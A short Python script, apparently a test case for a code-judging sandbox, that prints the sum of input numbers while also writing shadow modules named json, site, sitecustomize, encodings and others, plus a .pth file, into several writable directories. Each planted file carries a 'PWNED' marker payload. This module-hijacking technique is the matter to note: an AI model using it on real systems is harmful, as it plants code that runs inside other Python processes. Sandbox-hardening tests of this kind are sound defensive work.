# OK: leaves modules of the library's names wherever it may write
import os
import pathlib

for n in ("json", "site", "sitecustomize", "usercustomize", "encodings", "random", "math", "input", "program", "main"):
    for d in (".", "/tmp", os.path.expanduser("~"), "/work"):
        try:
            os.makedirs(f"{d}/{n}", exist_ok=True)
            for file in (f"{d}/{n}/__init__.py", f"{d}/{n}.py", f"{d}/x.pth"):
                pathlib.Path(file).write_text('import os; print("PWNED")')
        except OSError:
            pass
print(sum(map(int, input().split())))
